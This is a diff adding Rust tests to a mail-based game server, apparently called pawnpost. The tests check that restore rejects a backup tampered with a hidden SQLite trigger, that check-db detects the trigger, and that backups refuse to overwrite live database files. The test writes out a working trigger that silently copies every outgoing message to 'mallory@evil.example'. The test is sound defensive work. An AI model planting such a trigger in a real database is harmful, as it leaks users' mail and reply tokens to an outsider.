@@ -455,3 +455,94 @@ fn a_restore_as_root_leaves_the_files_to_the_daemons_user() {
     }
     assert_eq!(contents(&site.database()).0, 2);
 }
+
+/// Issue 30, finding 4: a backup file is whatever its bearer made of it. One with an
+/// added trigger that copies every letter (and its reader's reply token) to a stranger
+/// is refused with the trigger named, and the live database stays as it was; on a live
+/// database, `check-db` names the same difference.
+#[test]
+fn a_backup_with_a_trigger_added_is_not_restored_and_check_db_names_one_in_the_live_database() {
+    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox \
+        WHEN NEW.recipient <> 'mallory@evil.example' BEGIN \
+        INSERT INTO outbox (recipient, subject, message_id, raw, next_attempt_at, created_at) \
+        VALUES ('mallory@evil.example', NEW.subject, NEW.message_id || '.copy', NEW.raw, \
+        NEW.next_attempt_at, NEW.created_at); END";
+    let version = pawnpost::store::MIGRATIONS.len();
+    let named = format!("trigger outbox_copy is not part of schema version {version}");
+
+    let source = Site::with_games(3);
+    let backup = source.path("backup.sqlite3");
+    source.pp.ok(&["backup", "--to", backup.to_str().unwrap()]);
+    rusqlite::Connection::open(&backup)
+        .unwrap()
+        .execute_batch(OUTBOX_COPY)
+        .unwrap();
+
+    let site = Site::with_games(5);
+    let own_secret = std::fs::read(site.path("var/secret")).unwrap();
+    let before = listing(&site.path("var"));
+    let (code, out, err) = site.run(&["restore", "--from", backup.to_str().unwrap()]);
+    assert_ne!(code, 0, "a tampered backup was restored: {out}");
+    assert!(err.contains(&named), "{err}");
+    assert!(err.contains("backup.sqlite3"), "names the file: {err}");
+    assert_eq!(listing(&site.path("var")), before, "nothing written");
+    assert_eq!(contents(&site.database()).0, 5);
+    assert_eq!(std::fs::read(site.path("var/secret")).unwrap(), own_secret);
+    let check = site.pp.ok(&["check-db"]);
+    assert!(check.starts_with("ok:"), "{check}");
+
+    // The same trigger put into the live database: check-db says so and fails.
+    rusqlite::Connection::open(site.database())
+        .unwrap()
+        .execute_batch(OUTBOX_COPY)
+        .unwrap();
+    let (code, out, _) = site.run(&["check-db"]);
+    assert_ne!(code, 0, "{out}");
+    assert!(out.contains(&named), "{out}");
+}
+
+/// Issue 30: `backup --to` a file of the live database's family reported success,
+/// then SQLite deleted the copy and its `.secret` stayed in the live directory. Each is
+/// refused, however its directory is spelled, and nothing is written anywhere.
+#[test]
+fn backup_refuses_every_file_of_the_live_database_and_writes_nothing() {
+    let site = Site::with_games(1);
+    let own_secret = std::fs::read(site.path("var/secret")).unwrap();
+    #[cfg(unix)]
+    std::os::unix::fs::symlink(site.path("var"), site.path("link")).unwrap();
+    let (var, top) = (listing(&site.path("var")), listing(site.dir.path()));
+    let mut targets = Vec::new();
+    for name in [
+        "pawnpost.sqlite3",
+        "pawnpost.sqlite3-wal",
+        "pawnpost.sqlite3-shm",
+        "pawnpost.sqlite3-journal",
+        "pawnpost.sqlite3.lock",
+        "secret",
+    ] {
+        targets.push(format!("var/{name}"));
+        targets.push(
+            site.path(&format!("var/../var/./{name}"))
+                .display()
+                .to_string(),
+        );
+        #[cfg(unix)]
+        targets.push(format!("link/{name}"));
+    }
+    for to in &targets {
+        let (code, out, err) = site.run(&["backup", "--to", to]);
+        assert_ne!(code, 0, "backup --to {to} went ahead: {out}");
+        assert!(
+            err.contains("is a file of the running installation"),
+            "{to}: {err}"
+        );
+        assert_eq!(listing(&site.path("var")), var, "{to}: nothing written");
+        assert_eq!(listing(site.dir.path()), top, "{to}: nothing written");
+    }
+    assert_eq!(contents(&site.database()).0, 1);
+    assert_eq!(std::fs::read(site.path("var/secret")).unwrap(), own_secret);
+    assert!(site.pp.ok(&["check-db"]).starts_with("ok:"));
+    // Beside them, under a name of its own, the backup is taken.
+    site.pp.ok(&["backup", "--to", "var/copy.sqlite3"]);
+    assert_eq!(contents(&site.path("var/copy.sqlite3")).0, 1);
+}
